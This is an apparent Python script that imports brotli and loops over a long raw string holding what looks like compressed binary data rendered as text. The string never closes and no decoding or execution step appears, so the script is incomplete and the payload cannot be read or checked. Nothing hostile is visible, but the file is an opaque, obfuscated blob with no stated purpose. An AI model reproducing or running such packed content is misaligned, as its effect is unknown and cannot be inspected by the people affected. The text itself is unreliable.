import brotli
n=a=0;b=1
for c in r'''cdk=R/NrM9YoYlbF6r~yװLԮqN_H_ԁΞR
nq!@HϭzWl΂8M$=A*ǗSewUx+iKb$
tr%8+YZ7[T?l1J3t˰&9,Av3.c̜"Zĵ5=X">7O{:9ΦH+M-=CB-OGΊ׹LUGf2hg1iS3HhlT'hҞR-ii]T@RFD2Wiƍ<nJ|;qҵ)N	̨r'sP[7`}K7}wR:9okۍZ¶04R&BgA؊>ɋ\-crն)J[a!m:oLkjbcrfv7ݲ:eϓANȤͣ2V~L?qd(ۢlnב"ܝLAҬ\@R2cs%DUǖ!Pjrch:=v)S>kL*W??ƾb"^{¶n[umђӿ܇ؙl¹x@ܡ|$zOК'|ޫX\ ٽӡ)]dM;˳@J)DozR@ӵ8'j+ETf^;%&NF@PQ=pIz5Ö(%տ6;ދޓ4E'X?ujO:S\R}k'-*++L>m.irL1"یD[D	-_D@@pGpid>4+էSɾ
AeY/;(>yMEaZP3
]@V>/ۙ7)@wFsǷmcu3/ߍU$Sco9kY0w"T`D$V8q#dV]شʇZ
oԿu.=YUdZ+>Ý<-D$B1gll&TKiC?YmuPTܩZ͗ςvg66Ճ| t3U"JϬ;dM:^%x]S
Џ^4\7L;Y-~֖e@@.B0NCц{%cAU_L]@آ/B7j1ZKھ`G=i(z(!Ơy}h:'^IE=ъ/N	Ǘr̙-Clq"?XFc>Ƭ٩Mq6ȓ-ۍ!K7.+_BGǽVmbW0av-%C'}8YqugA`Nѐ!LF$,u(_TY#oynĦו5[cŌO;kό۠sNݳi(>]@1K=Jw1pbLQƑ?RM+4ߐGv')gC6v>b=/|ďʸl|5ʑKоA-Sb\)PRI;e`beseLuda;xWibՓ(Rלάbg1i"ZDJ(|eҌS#Q~ߓi.Y%/T'yك&tpV'z<q\_BxހsT6\y{Ȥ+S7"(\_ѕTLGӄdLVX*hvz!:=,nb_'n2K< gʎ(Qq81x-"~,3O<(T/Q"PWx\ǃޒq2͘A_k2Kiy=Ș.ЅlmHFa~/4)gvڿȇcyS].C'V)O>92%9or-=a@MpػHxQ/HϧCRIC1N|ңZٔClwN3]Il֦+*	Z(xUpӠ>%ט.m"8.Kj@CB*`_A4ؽ@КeMMbd.m{qt͒H[*41֤X.Ԋ^
SR,foxha͗k] 9tPf9:	۔%|J0J.	ӔO0@~GS+үYs1G+:b{ģ^БէwW1~ɮϷ6;҃Z0Z@y!cҔn	}nBtƙA :Iec<*-ԡN06+
aCt޲7ZF̵
s#٧!MFFo2"W̏ɽGAecM!-3ű?{#JPpyܻޱ@f-[UiN-޽|kn߆lNA~m"?C5}Y:iw.Q8L"#g}^В3ʯVE7قݏ]05\H.IJǇ+dE¿	CFs	ҥjw*p^.~ۥ.>9YvLH)jEYbgYW׸gv<!zfAk()'#Ap1[uҮaor[E0hJYh4PQE\.ʒ{խyB6/g~88^	,Ȩ
9"=9}u)RVV+-jݡȍ6%$7T(M3ϾΥ/SPP<eg7z=%#Bn;xѷJz6s-?g$Fw͹
8<O]$LHطE;8v>xeoSm::B2ZɘR#-Jk5'U6@J/r-sEa/B;ӍlH*S[߁E)?`U]%e|ʩd5aCKu=c J{-O
wt}aMKņbJ YsŦ_&CB_v6ֶ!TZyt?Sݱ!G&D2v;NC0Fw/q*CK5)}VĝRv=zr͠)&^Ƒ;P'ny$hxk,~Ey##oϫ6yKº}i88}B~%TjRϺz5ݹ9:=?ӋC4)f[V%Oњɧ
w{̊Ґe+rv[ǧ!i;CGh	ɝd-s5ABׁ-~բ>Q?ƽ~XtGqGO˄_C֍Ƒ9qڿlU*!zπa7~).)j^|4/Wp..š{-QNI!SUP?#7;t3nڝGqhOX4rgO}҇Ԏ/x:}QlX%Q&IyƌA/Ա;^xl-;.wHͭmp'1~֙G
WYv2Tu_Sn^yUXveh1a֌gCɔ%	H|\	ؚpmƍ<{{TXy"HPVlxe=p6(
H9X|G7J<՛DŦ<^ˤ$#-@;&?,)^N߀y[-Zڏr6+$O/EUYf\lɾO-[.	ɺ[ZAk"=.MԺ̓+ED~ޫͪUIB¿ɖӴq"=(JRZY+|8-ۈj*=m]jSQX,')X[^!X|h^ݞTK,wZjy}	S_9zsıʉ@?ЁNUދD Mf :(ް1lQ<b~=Jמ?wr̆}gl8ի~]uAY1?D5t8xfT̩k96Dݙ]fC&o)#99+U@ZiJ2GCڗ*60^qXeܞ-ĝ&5T!l&Is7AϯpC6VC`-T)xܢiTksO~ޖ!D\Mc1wp&[C%:ZIX	lGtFjS?:wcя1CEη{nc|9W;8DYlc\1X-^Z*/#9ZăBnOnC2@5Qi\,ȯÀ9|"(P~+B
:.]AbSoۙppD2
	(DyjH^sL]4;3Ў)z+!Lyi+q|'/S(y؀vl1FٿarPK9ʵC,_qgFĚRj&CJҪSoO IZ~%7|8y6
44r}s+8ĕΫ:Û+^)ѦJ#|"Sz
pT(pwsTark*=ש;r,"4gveYMvhϣ5"ؙ	$Vߚ<i!M`{&0ZsHmai;Ccj7`-1IH-Յd3LeZXWIooV9]?eŁ|Dx,gMUHǘPU3V;Q_f5&ܵ'=%Bkś-ڊ&F<̍=E!Q[>ڵǝԁX <8A~fizLe,6A/Io0??G/ssX2]	0~Uۡ	̵ÔP̟;RK9exX&ިznsd	H'24h=K[<+S'Jzg|5J^ͦ>πp=Z3p}6ئrexW/im7,Z~F9a<%.`%Au;P=Đ$u3"'QgVV'.	'I|dˈ@՛JԃZ,,CUJkxKw>;k<xY*ʂxy0YBN&ңǐ):"M*HvAɂ2ɂFs)pS"T:H<\AUz|]2atǮ^WƼ؞/ @P#(f6rˢL!}GmSWF	{vF[b;oq3I#,Tņg؄ab_PB=U#!w6b06?8ޅ_84̬.=0+Ak4{u7P"V׸8ޝ;?͌}*|e 7(Md ,B	='W-ǅwٯJW^CĽ`e7-9)71x[ZD@4Q>KԔ~GaЧH+-# ҟs	H<<k%l_^W%{ޝb}:ŋl8T²2k%`aKVhT?WtidaswߑjYRPu9I\vˏ%cQ/S*D֯M=|=tֵĈ|	j?rbOY>d~c'6llr	UȷGKpY;([}6JcHJbߋvьܸcAb{XZ4Xme_be$&ܻ|}qIk/^ځJ<1wEZB<?_(̹h!z/wuhuBw4a:Xmnv
Yf}l7̸׫e6kq÷R|B,65aEEb;dNuy^(	m#:?i$Ǘc\'ZSAbF`KӒ!<5C`d;fZGaL1ƀE~QiҨ4ĺ~-RB3Җ'|^t@ts?K\S\2RhVRC̜*ic:,A^܇`+UtCtIK}ϽW'! vyMUʊV~хI#źK'}5M<]z؆؇kIs`qz#r/*;o_$u#K=X(ͩPUIՊZѵdԮLO=$L/!=d	9QRW`]}j ۴U701'r{N:c`XdgC)ɵ"owݘ׆'	%ő8oO*CMڑԎhzrsxZGi?{(/o|Wup>))sl6,]ΪT +&K3[`Ajyn׆¢U>)U8]J[\$sJ)xi/nYo:ZEaaMdԍu#1 >7"ϰ%svn$W4Bϫ̃w;mʫf\%;d%m*\T9ɣl,-a_>zβX4q$1yvCSi*ܵPypD+Ytu-)jċ,(I7/f:Ae1bȠsۯ*X"3Ğ>ޞPLG8W)	z;gU2+^!u	P*ݓٵ(@^R6o)D̗({lJQU^jMܮz2(hҝ[QAwBMq]9f·W:e}-gp[3T$zR4Jolol	}a@?ɬg(ۀ;,K96KRRBc10ѐRJ~xڝ~0@ZP+2;]*lO͚"ѼqEvԼz0VVsiigfϚ.moKIgى\H!Ko*{ċbnGpQH@ܿrELX\c	>y)aܬ{5w75Ei܇dCus06'%>:<*McZb,ۭ~DQӲk&AR3S|Sc?2=g?#rN&HyRғ_(Ԗե]`eX6fDV6tdEgDc/[sHͩX8\Co\JUB0l|)Rj9Xl,JmӂT
\):*WT֙qrZ?
P/F]neN!$̪Qpf6Y{#g>b/3עJ;ي/\mHfy}aM6"lfΖBƤpG#ݢDB`wFcéJM2{TiIQnD®ǂA~]"*Յ+d؀75tߔڈ߈¿_SC+`h1q?9ٴ&zXp׌"0<jo%Q ePWoތb|<DRav֠1jǗq8vpˋl{a6@%q?5E?+'vU[~Mg!uzX5H:R:#[3Ke^N,YL{ME͈͞yf}[&f?uԼ`EhGC~@&je
,-]rj-&}N&sȘ<؝wwſw$4]\~-8#)IBaq-ijj*K$s+Q$pܽsM  5NÕ}Qpn8>_cU_VSOlCу6Ȋ^ұGUV*"h+
Zؔ#>*k[vJGS!B¿{H8Z_х@ȳzV\E6:ӃVnLkHյ?-PUC(;\=URM}\E(BdL11Ey*`I٫z^܆3מ܏MY~&upza%[CV˂BJ8^$*	mz3\A61mǢxdI7kJ.
yUdۊVѮ0 }u%XrPJ?k	
kЕJ1n$J8Ď	L\saB"EQ:bnS`A}"ʞ'fze7Nޭmp5od˲Fzou@؍] B	QttQЯZLrǷܦiTߡ3h:t`	vsl[܅1+LMb.:7N@nXGϜé8W`16U}U!UF(Y<;XwC,	m=	ipdMzծL_imiV/3JҦ-YڭӍ5DٙaǄ>kNQ56~2ź0Nuo_$4NoZ|+Gu3k[JB_I/A<ךn%7CLĲFrr#Ņ£K(O	ۿԞ+y)\ngOvA.l2.АbOU|"9ǴUՆ}LŲߺW<G AE2Q]m"AXۣ0T\SByMYd	ҝ?r9KHGcQ%۝z%`9֐3oA=luo4.{'}O^leWpétojRY9yaM\HQn.0ه~s4*K$&GҰQSe]֟$ua~[g>PƆX>;_>dR ,W'Q|ƺ%*rMVs
a1°,pH#_kL 1H$	{̆;q5H;;v0cKo\*Yz3Қ>DX[>"VJd0rOC[<PڒbsGxQȝ&7Lۛƴ._C{Cȕp.VdDDxGesVwBgS6TaIM9;WQA\cU3J:׌8zi(5g\%̒{x2QT#l' +8FCC%w%EIsy8EϴVr6Cޚ~<#6;sg.ˈLBK`K{vE-
3{rcʃp MTQ؜#JC5ctIFz>N܆GfSwl<Y6(jiÊ.|zf8ۑ)Λ܆L''	$7D(}%HCLb&TGZ.oq{q'PQߗE6|	߬
Z ُt jBqh6NQ+IyɮC,υUybZ?yxZoVf`XdϦBȘ_y(ͷ΢X 1Qor)!N%~^Y1jK+ȿ۱GN3ON%0J{2[ϛ$'';CmW{#jCN1͉˲ٴnY[D~`:^fK*Ъiw׳9"L҂m>5z԰ӄȷȍP[}A3B?4t6zWN;oZz`}6jJ[tݴؿo,
Ì)AD|?|JeERWԄaץٙBphg/HRȉIzQ'oj6*ӗ:U17Bbe3{uzk0Ch}`O\T/VӠ,jpٺ([p_|Ʉ8!ŚXfY1Qsx,^}KԲXatX֧C??agcn3\eӐ!hQlTD4hPIXt`i Δ̻Ϻ0p{E͝Z}e	)Fnh+DOi]{^X!/meD[x(V^#`q2Z:8Vti3j"1/WN4tõ),n}oGt(J'J1ď3N;΁2-!MX~x"D
sTH;A%V%P|rUKr0l7<x4p6(
.q@qJ-ewAv1CtƫWʏˮK·VN)4;
).n1Ѭ[HT݋ۤ9h̶;^GL16%Ӟ+ӥ. _dy;OԚgWiCʙP?:K7a$cU9E!qKDݛٔ5^uDӪUK-F/ZbiM(Ba'NpxH:h	y=8Wfb\Go؁Z|aE?y6}`4ʱ}v'vʼg<DviGИ4";wst<&ڸ;`dƇqw;}dkdlwr
5;VEG'T137@mFr~R73"]ٔ߁R?1Ճ
ul]zQsod[Xc6B{%Mg`_G1<YxJAPF7΄ӥ4ZֶL؆aYX<4ӦZF;֑ʙľIƑtX1auDBgSLvsu1U'(&}m1aݔw::4V\7+-.U!I;&P26n%2ӘXv{mJ;˻S;YyksqSj4/ٰ˻u4~HN	mV8{v>4uH(,1Wr'hؼuBD<Mm
չR̀bwȱOu|G-ٵ-eV=7yCwUa-U%q%uIOR5~#kak*;6#Є("XpmX|$F QTnrLB,ehڌ/ݮ	h>q*}
-$sCG(
&OPq4':okXܙ!b+s:6cn}ַHonxڟ7E-Cګf6S7i_B>T@ڰ2Di"є"^lg=|N6ؼd70Z.D-x6p7ח*,.n/3ĔB>Eȓ}JV\kl!(wx
4Ǘ";I1&3MbD.BN{DvPt!s/p-jMWN;i|(AO$<}Ρìܢ}e!;<.RQ7R0@ـQD[[HQtb?g
"QyEun!Z
۱s@Gfa'TmvAF=icb}`0VoGm2ܖkRѱDH[.UGH-eze	,S(YqULF.$HO$ߑ).5OnQv?HS5+s|iM52aR2^F k1	^){ʩ&T*,Wӗs75Xj1F؃2"p&UGZӈ|Tv'YQ|d=/m81ytKK-1+~nαp5oDvv5˦ڊsWлмi0 ZYyӍ,`°n_!?֙F|.`ڢ՚dr
ڨYdqV܀ǝMd.Yޛ#ֽ@Lg]KQWAW/\/҅҆$3*Ћo$~jmtTб]({q+mhsj'R~3B(@cݼZt3BoDfkE>!QzRї!ՀШ@w%!Ь}±=:Id*3#O	j[h%Ԙ!|e89Us	݂>l|zlVoȞsAvPj e:ut1Ͻa~gخ6P!ԼΚ^acU:qGv',gPYĺoXҎffs!98!~	(HLIaӯܓ6	e*y$A.	R[
.X*ӹkIB@o݀Ǒ?Y{}-#uֱqC$3GcIk!t;u&HL3	״(y'	L˪06KޤNۓiTu9Kp@chm)W`v"ɎcAV{=lŒWW'CDO_ׇqƈpEN7\|.`^*)ь__9Ɓ+p7+LjXeH)@+~=|Y5<l(z3h]v'$/TĜdDө}`6rȉEو~ئ?|{W# :Hj#@\x2=nǯqMtFa%<:WPDcJ>H1JK!J#V*r2KTO(#w(8}`S_b+dOOywKrİ$|ŃątHP~̧+Vx/et4;I;^E	E@6\Řl3.isLO[׮3DW*ͰØҰ*u,E.\XX_.х2a|)9bhͿ>/@9ed2Ǌ>Ls	: _iSƕ5{ZD'_[rt\%v$v4`.يݎe)F.9'HSd,te82hf9A]Ul gkN/d7,e8^>k~}"d1
x?ҕ`vҸP?aZ^*ewѢojm ,C`ޓWu3<y9^L+YK.q$S"7?ӝ4khqϞ1Vεk[;iexMe7q-SrlK1_LƵcj9AvhL:pZTq0K(y5u^%tHwٝ!fJuGܝq3:V* xڨ!B8'(5ǌ~7n@	Q`Q׊T݂NJdw`Ĭ
)X4+ =rkk7>,K˰ʨ*E#ؒ˜5%M~EI(^[:,<~S1O&	9`X5pĀρxonό',ǳ]]GQVuPpQzX&"VN9,E)E`עyX$ۏRz͹o2)p*ϤACϑG!ɋX	ك<.)?qU cO? у:fDB|S-҇q&8϶fbZ7ڎ.CitHH24&ȅwyq4j,ˋ*o/;/j\ֽ$E՞*i-{%:ĉO*P`cv?[BsE	gk˹Ks9&3^yZU^:W4-3җ#-ՅYʸqTQuj}zR"@<dk֧"a#kD٫;]qvtS6thOsk5ůͭ_pJǟlʀz̶E@\kYmO̓1n QSΛ۔qQ:&zy̸#yB\C)ʢbøi]ܖlp3t9:/6,3Tօ)\_YC3A>v?]I%\F/J>l~(MaJQߛ}^ٰzz \قPF
-'vEcOԙff8o0n[ y{ΰ̉i'(K^v'fnr{Np,_V:yX[u|	)ܨ'Qj8
^M;Nٷ00ZФ?ű148EAg$YЬyK3;y(&_M*'=7"Lx-ʠJ%u&"j;7Ǭy:tdU$DhFrg6ib	>sބ8NI٭*;JKOb E
fXB>BʭPܿD@b'ʠ"њ:g*qU[df9Z*E׳ݦܟ<[@yPi	=KkKuIyo@A2jQ$ך]oCv`*#YrWݐhOZ`\PFҪm=ͺx8 "șs#'VxXfY1]~*Ѓ"ɒg^ޚs'_ۻRm6|30cDl,1P3mČǺN1UЗgݗudXM~eAgL1>x,-~4PǊP7lўc|G4bcSm~,l܌Z{iNĻ1MΩ'* 0j@X҅%r6گFfSdWȫڳB{:]!ڑݔ cfΆ
ÛMXfkpOdu^}2FFuw1+ȗۿ)jFju^n8!ۯpՖ 4ܩM,lu]GҜTن8l$7-JLjq0h=¥O@de6YݳVJ]q/GyD5yI%aX͝&z9](x|)t5٧:&wzv8(:rRgģt5W!£ӽC!z<k]6N"ս{5TAد0ӻkA
[zJ+cH"ѥ+ةҁ)OsPh[13(|	x2j'cnIC]gIz3FD3ٽh6SM!A;:kpI
hD'm@o 1bc{m2͑-nQ,q!n9r5{G<BI%ڴczx']&S,g@nY{=QVS"0,d%?0%ĵRAF|-%J#M%Qhsí?ҁ
.1utOL$z$i<&|n[i1>xuiYL}5d%TN[ŭĻA'H!W+ωv/IŨbaѵsC$yJ0D
<a	$six8l-{5G͘3A&J]Pa%.\g$GP,PtwICK$~gTĲjG#qXWbjXc\Rڇ_nKBl;<StZ~̞:hSt| AMN'g~ǅ;vu^&i#6JZ	51rL$#"Z!V&>Vq}_y|ZӞkw*֎itUYhC։ݘeLQRh_x4au0ӭrDppStbό2
eѢI/Ae)Ͳ%p	h(X<|^Y1>5VɅ	Y2=1tAM}˘ΛR̵m)B+	"ִy!3"Eˢr~$э+/=,XHtD, pHR`v14*N}n!χ+/zt*nI@p9N1թ"<}#vǣ%6]{,v]I1"Cxb
М|gB/׫*(kk8H;JoS9CLq2ۧ:&ù(ɹ	sߐeWW^æXa-
L` hMrέ!.oou4l?wU{>kVX\oQ= xe֫GȈ~m[6yiaA8nS{`;ÜJyz-3{h̑_XpB=P\me:W#>.dׁEmMܐ#,҄j^<WJJZE ;gӚu3g7kwBRZ}O56UDj"`-Lp}q*%͉,O8ޝtvLř7YbEQ-k{3A&,кC-uYǹ͸xfŵʹ-N.53'%xs~ѹyu"٢WVg+'Чnx(qFnJؕӄ31q<h#kd[΍'ޣG+@1(bb;&kBo9B!|x
cW@y1Ax6NmنؾDٶT1bȔUN:޴MߗyF:.<E[Ijj~anο0%Mڇy!ǋhN*zJ|6OAFN)j;߫D}L}NX)NGY(|EmjjOA!{B;}÷EY$KNLt$et7ڔ[
+-n)CRөg&ҝ%ai"l\Z/N5xY̓tOHTEJʅ\!98ZFd5"Go	7sQ)ĂkЫq1ްҕ,d'ktSTY.ڗl- j`lh,q,8`hAٜ^6Q+ HV(.D<pTHesk7>*"45ep8>\,A8Jp6rɉ;2$%^Z$iqبMs%m.)&f^xxe5j%ݛٚ{x
j"e=( /4'1ʐ̴?9EƷ?,Gb.>N}ɒg;^1D'ujn~RM`V%Y_~ُĩ,{Ͷl-
qr~<r	)9\ȇ~8qzn}\ڍ~JkVW;n9Pص*уsd `E7.Y#o`Cw8"3+qc ĸB@-awD>DhC֗k\;W`0"GXH4$Srǹ=nA+fWKْXFfXٞ>-XcnL}+%r,UV9D7`NJ5<ğ2YsGt*"hl'sreH#ujf,!A
K5JɑՁhQ	BYeÒetȅp{ϧotSBI^ri)d%J̋IS;MH?B[f~9j/TاP+ۂQc9Ź^Q,+!v(ɩ*AhX|)t"=q!sm.qz^5ĴF`ϫNܪkS
SaZ?-Ҏ$}	#b~Ҏq}z]oi|́V?J|ťJowryuimQk2_]86|A+HcS"py;t!{=t'#كpxs,,.h4@k(!Z|<KfԐ N[ULlr2evz܇bA%c?vB9 p[+fN!5-gRF=-LKuD$'6M!ՓǑVdA?KrA	s޾G9;Q7V`^`8-~#W
ntjzX7 <sbx}B+R&~,
'͡ʮ7Y~-Ta3A2;GF/yw	ipYJ;O}Εm;Wۄث@z"$װ[nhkIMJN?OO/A+ig<@cXc+UDjߒ`X>i$>BeƉ7;B}oN!W;^rZEVԧ1,>˲"=ϰ]Z}	8XeJL6VaR'q?MRuof}PʽJiNt%KC}jҼU&T٧=YJIӦ5TYnm-:˾?%o՚ϸ/uv0skBEuo'UCZjzCp:#sŧɘsk>j37CѮ El^ao-[Aie_͓Y47nХ=ǳsJ	ՕQ>owbi]ؓɚSΤ2&&>}yz!}zz%,!j^`bNȪNAaqlĶ
Ѯ7ٶYbu1_yƁF$1*WV<k*jS6ǲǶtJ	m]t҇64ڡpsJp3xÅ4otlL
%~3'HaW|0I@!ou7FtYyoxr1({!'E.Ƨ>i~O}Aܛ̝\q"*Sy&i[u9*X|*Y*$	p.?Fgf0  v7HVCDr1̧ؓڸ.4:քMjΩ=;<޷~D2p7@b4%M`;Zy)D*<uZzт+9CNjԫ؏O^	E1^Q6=_^+P9UИaL5g*RB`(gߍZ"?O'xfs;L(WY;Ƀ7Qz۶b:N~_=J0t@͛ڝCk0d&-)y.*z-LiV2v-/XYN؇Ĭބ6QLg\6ؑrz99@͌JcҒ̊ؽ.wg^˧d©_q7JNQ<CUSYd,;+_8\؂Gv{-'U>$AlϞphdǷӍԃ(#4I(.uJG!XA!i\MLnO,JTڢXϮY@B50ߩ5PVÑY֪T\|c$n4=>ԈvM.v\^B<9P+`,^?9%@znfAt@Ƌ<DVvdzр!|%3LiO˖ak
!5D%?}*7pjܘٔ
 f4cjT/Ӣ\9)"3Yoy\*ҞmcO6K0mʵ)*QeəkǐiaRRVeXT<Dlr.Z{c^֞'DtjyֽoikþοێQt
hnҎsAQGۆ#/TV]s˒rfQODbj+}^mJޘL`q_50}2OK.2=BCANXe5ח,@sdlpTcυ\cKlBRU]ݎhFe^_#v9R43:A~:Eh|?ӴJ>kkDefӁC=26bE%C,F$eCbzݟE,ǿՇ؍ o'S'C/MOzJEfV/˲-ěqucWD=XdF[NUGC5-ǂdWE!ܚ:f^-a߱I9Ѭ#ËsG0ҒCkÁx*A"5A3pЗ4z*-9M:&J;vyB(*!nα4t>g7s4yG;q.
{ͼ̮Z^l8͟BںrqS]l:ݐmkS5cd
&j#L}Id˼ܛSgz~~ wro{Ƣ"	g5"6ɯrvtI`(IN)"0,pamksͨ@ׇbm{W{|C.:^./>	/12:K66.݄-L`Z!:AO}XXCvV{Wrnז]&"qh0Bp=]tɧEl4r"ƢlOrz
l*X]py3jIa:FQ&Z[	qӝéJ
\?ď͇l7Cπ`Be^DȓY|ҾfT
QQ-1;4Ӯ+%\GuӦTqN#Έsٓ,'ڄRt̂D@_~#,[w/ӧfߋk}%ĝ5F\rbKT`{OPSՏ_hq4>VTޛM}ߩ@ldpҝt4"*
ڗp@9TpG !
ϻ"TrE\Z*ُ;IĔz8m'SSGAZ\9>56"u`w(f**Ͷ70`'YPؼkPmV$MaVNFYmZ?oQ8ˎj"߁ϊ~ʪ,|Kf}H_sKE#
[Kmzǟ)vAbُĻ9u7Xurm60	99u2xyFEtNC)jy+t]wׂc*݌J6?ġt2&i1u++0dv}-f?!}EmArW6VE(N_>P<b76w;M\jwl.wx!jv2!xi_-+zg<6(~}!#rqXζc;}4?=tޣvVS5m}ԯ,ϖݫ! ^Gt7]ɧ_zlvEZE'Rj(lZa{RWs,wNR(SLAۧ5EDܢVQ9ͼ|,1xUP]A8+ Ͷ j@XҕBQgkՃqPv$1dޖ_&lI)[9!,P-HSδ?g$fmOe1"ȸT̥./!mɠc[Zp^7y1	V@){xi?@`mrR] U;ˠG	Sԡכ֤:z{oRAۜ	+U4
-jXd&u[Ѓ:{o1x}%ʳ,^3728G7	4Ǳ8Nb̑\q'r	ǣ+v,YNa1Fvӯ-X!M:)L<MhPH)}wjӃ"~OgVv=3E)@}f/wj
1]
MeX]iB\%Hw׻w"H_ehw,7>fMBnhduL/,ַl¹[[ۏ#E֬UfԀyEBcaB_m'ڝn|T7dFz{,mG4Ӓ(I*=
&̏h߁bG/GA~I3ںAsYNŴts'r"iZNs&x9Ye8({bO'h	m!\>mLԐbʉs'up ŉlxugS*݅!ކ˥WHC.yRxUuFp\O_4ѰMxЕ?kH^"ה>'Ԋ`n()dùk+1T,nHHxt}bO]Pw-j֣Kč65,69;VfFI֋z6m׹]I6j[Z\wLwQϳ),A\%ŚҺXiOGS	9	HÅ c$o,ǎ	-&VuL| ETe>-"xoݰ~O<SjR`P0Þģs> nb#L,w|WPD\{kiݯҨ^QY3E9;͈A8FYǾB:Ѷg7t445RO 8ۥp&?HR=|=*SKU2O3NP8ɖ\!n)̴U~TҢuB>|<y_̩',SbԳ<9ęxduaZwHw3$%o[@mwӪS2ś|=Хz5^43<?W\Ԋrlj͘8o@}\-ԔG+G1.Å$נVo^/)ώdE:[O-?Mvi6
 
.^y+݆'\ +9#2#ٴD.Aأ&#I<^hDEۢ.<6/m9<ν7xŨt+yikA1>f,K4ǥ Q?5IWJuLyVh>!eѫC)n$TVΌ2+Ix=+d8COqґr<2ԈUmۺ<	~kۆkԜG[k9=ťš_J;|ӵ:G-*/=Jhe&lڐ.L11u|+z	+$QQ%ͬ=]8
$yŕE)ml×i@2YmŷxrP\QE7{$vMY/rdcߣW0?u׀ZopvRI>Dpǀcx{TtnKvS?
y%@k˲DTbu״%x_VMj΄ւO/P*LYToCBe[ؒVHb0Ta̢ӸLg؁8`ַm$zR=SrͯM8u"ݔî!ێIg	CK߸_~׉ޯ+GD=w1
'I.q#m;2tXĦزFSsN%!o0-V=l{+V_IǆD)̒vXڹֱ6({o=Al9hR]6	y}s̚*'ՕYЀ'ݜ"Ź݌ƈ۾w!W-8z֚OjeE'Ԗo_zˮse}0#+[.0iRw%@Q1HN&Sއlx&>x+Rl#@Ӳ,H[OY׹RZoĽ;͓+ku}TϏBKkɲHIدgqvVHƞM	ʿzVZ&3ŸXZh]A˔eNÖF32fO8N<epuRv9Mՙh -n&--w/±edEo]d  ٜЃtH4̰hvӆ|;cϜ|XNýϳYʋ4Ҕ֊xfGWYC]:M˺xP53U_؅nz׌d7x3lJډ/rĂv¨gduo&ڷ%ie(l/>"3x$ܼ&WzZfD,iPߊf	5XmFNDDWɺJ9(vIB fBNh*		U{qVe> 	7:Ɋ2:lp{=ލŃfC5d'BM]~YԅN\4j}tӐȐnDf]qg/Gt1GEpHrϊ\̎jPItӼCs&ϜnYǖmc\2WM'ۥ0-yʄzf?kB1
sԈJڻ&")ɍ_>pPdv=2У@vhkP'^W]5(ҕ]V@9
^~(Wj8ujV-ghŦD	^ݴ,bIc5\~[:ʰy-%_{Jc_#te,[}A%R|'ImQP6)ebhj&4M)0zRتCj/a/4qwiԍZ.),mZ8ȴ;?$evocmdɩ#@*ژּ?2Ѧ^BL͊b7|XI}saG&GP٢&Z3p֨_%eܝAi.Z'(SYi]&a->O+g*]*͆mf֟koukԌ^qv3yЉwdi%cCHv"߹;Y֌ӜqSwIďHnݸQSOC!ad@r(u?pcXȑw>݋n_{etEhROer:gʑO $d9l/j	)~;gYMkٟR!
`bQ˭>,N3Wݲ.CdVÝq~1GUBg@6o~	:0uM4wxˣ+*#w{Gh2C4$F'ޒܦYEe|JU/Kidqڬp&\Njpd_fMFm,^ڜQ]]vBS>g,k@V_OK_zq_'O"M,M*n8>wMO=[ZJN52_,n*pDB̆-@irvW@;#:{ٗ]ewJ$KB!,6pwCt=! ]*|\Ůٴ>ɕ߭N@\FadWK}'q>8$(ٲkey8AD*h'Gלk!&at#CYڈ[elͰM"h^ˬb!3$	<|Kg04HHr#heS.Wc@:"#6M̲eǿp+Vn߁-GeP8l@>aZr` |˪Y>aB
G̉/iZ\8n#{6g
|˂.]wOʒ:Xģ.peQg?RdrK06ܐӏ(ߏ!S>{*p;LЌ˽"R*	\]]#BG,6cޣ;+Dɣ`KȸܯQ8)2}խ߀Bl|s|](24d*[*:i)jKs|:/"SM73k5\@ZSh԰R\,^SҞKE'%vU=ۆ&ن0>2mkA׌f^9+505[(4|ˬkԐ%'fJdcG1Xq"TNA7
0D$gzoY!=|}mX
Hϕ_].1cIlғ.k^5	Ȇ˶Q WnxֆXgߝ$YԘz޽hK~
iڰ̡e?
Xcq[YU':C2['T(j`G-Tew{ʳ^y:CӭSGd	tNQfo8n?"/eFA̡޽a9}8ߊo3Րb8!`EbhS~xDko܇j4*& 'jހRp,en9Eȟĺ9"	ZA0{2/M"!fW7,pkrp8?z|!mx9K."Nd8|Y$Q|8*ֵ=Ň(jD(':g=v͒nZznpm>7GbF:15m~'u>:1Z2.0R!PPCM?̰M޷[/>J/yp3?H|g'!H(eF[]l(e<.iQ	ܧXh\}m)nMSݸGgN)UY(&<_'QR#4bxUªx.Nťt9EFVCmJq!m-f
)TڐیTv,Iׅhd6$1.0oNˠϰڈ[_#%N}h5؆K$'j~[ƙʍ2O~u*i."2v2$40wG2`9jy*2ֹԂ`0RBkЋF˧>KorW+/@iմl%ϋH'"\¥#vȄʋk5_Ű5s(u^>%F$է۰yqau7EԼBfw-x0,;	dTr>BnɻH]t#+Ǵ@Ag~ljYM)	NGr/ĵT[ÆS3'mAB5<yA<ZToفbB~q6_̚:Oh_5|KeZԩ"I!=)p'R@VIsZ J?%g (~m˦ЬݒG̀Z65,-Q-MOTRfV0?Tpǅ5ɫ\Ra˚̑pݥc\cӝZ͗')pڶr_7%2kݟO
J|X<&9۸ҢMKΈ(Y͍w{1[8GdCRa:zxT{YQO#nszxkz(^k./p<zڶ\b+MъCӽ27{TUۅwbʢU,~xC5.Cۼ<ڔΎtb^S5P1;:n؃0\~jXϓ"9RܳnXx9	c0h"vGVT$hjnJa$1{wy-Kлx.+{zrܷgiĽp}b&MEoB^tQc`J>c5bٟKū1د1\lF
8sOi%4=gؠWǳ2~5*h+j,s`	V:[nnzؓo=Kjl-TQ':!VfH"@%/ׇr.81HIYAkҨHǗn(G<[\&צ5̆D0/0 w&۶ΩUZKSr1Y%znb' 0]=rdo1TERz.4"t#i2(N-i8Ha3_!42́R;1:|&Гr9ҺR\q5!j("JUzy\%0g6,Zry-gv(S]MMք[.WXܛo? Rk/u|+S)/Wq0ӗ#Pe*^UhS<Shum<%ٚ92l5r#<sԐ0rRgp5ʨy<%~ܭV˖ZФu!وF;rcH>Z+b7<zõFJ1~CwU/_G,
!PaKS/Tʬc5d#e{JRQκ/U+Lda+Vь;cػ;x߰VݑnG&sV1|RLuΟU;]mT"	C[ھ7p;^FRl]e˼s?:[UnZ|y$9An&ge\T\B-!q~d0Zu(#*Hwat#-DbƭqTۭOFFI_Z3xBMp-Q6	?&9Q@y&VK_8CI=Z)EEr{_[2VY+
җ) :ir7ւ`:J#B{.xA96˲J,*YqSrNEQ=S~Dօ*/dlPPPvR2\"ePbRsгacXƾ6<D;ID+>53*2MG	P
